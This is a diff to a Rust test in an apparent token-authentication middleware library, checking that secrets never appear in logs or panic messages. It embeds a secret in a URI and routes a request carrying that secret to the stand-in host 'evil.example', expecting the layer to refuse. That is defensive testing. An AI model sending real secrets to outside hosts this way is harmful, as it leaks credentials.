@@ -148,6 +148,8 @@ async fn no_secret_and_no_token_is_ever_printed() {
     }
     sources_and_panics(&log).await;
 
+    // From here on a panic is this test's own.
+    let _ = std::panic::take_hook();
     let text = log.text();
     assert!(tokens.len() > 20 && tokens.iter().all(|token| token.len() > 50));
     assert!(text.contains("a token was issued") && text.contains("hyper"), "the log is read");
@@ -162,7 +164,7 @@ async fn no_secret_and_no_token_is_ever_printed() {
 
 /// Custom endpoints, sources that fail and that panic.
 async fn sources_and_panics(log: &Log) {
-    struct Panics(Credentials);
+    struct Panics(Credentials, http::Uri);
     impl TokenEndpoint for Panics {
         async fn issue(&self) -> Result<IssuedToken, tower_reauth::AuthError> {
             panic!("told to panic with {:?} {:?}", self.0, IssuedToken::new(SECRET))
@@ -170,8 +172,19 @@ async fn sources_and_panics(log: &Log) {
         fn rotation(&self) -> tower_reauth::endpoint::Rotation {
             tower_reauth::endpoint::Rotation::Exclusive
         }
+        fn uri(&self) -> Option<&http::Uri> {
+            Some(&self.1)
+        }
     }
-    let cache = TokenCache::new(Panics(Credentials::new("id", SECRET)));
+    let uri = format!("https://id:{SECRET}@api.example.com/{SECRET}?secret={SECRET}").parse().unwrap();
+    let cache = TokenCache::new(Panics(Credentials::new("id", SECRET), uri));
+    let layer = AuthLayer::new(cache.clone());
+    log.add_debug(&cache);
+    log.add_debug(&layer);
+    let foreign =
+        Request::get(format!("https://evil.example/{SECRET}")).body(Full::<Bytes>::default()).unwrap();
+    let inner: HttpsClient<Full<Bytes>> = client::https().unwrap();
+    log.add_error(&layer.layer(inner).oneshot(foreign).await.unwrap_err());
     log.add_error(&cache.token().await.unwrap_err());
 
     let folder = tempfile::tempdir().unwrap();
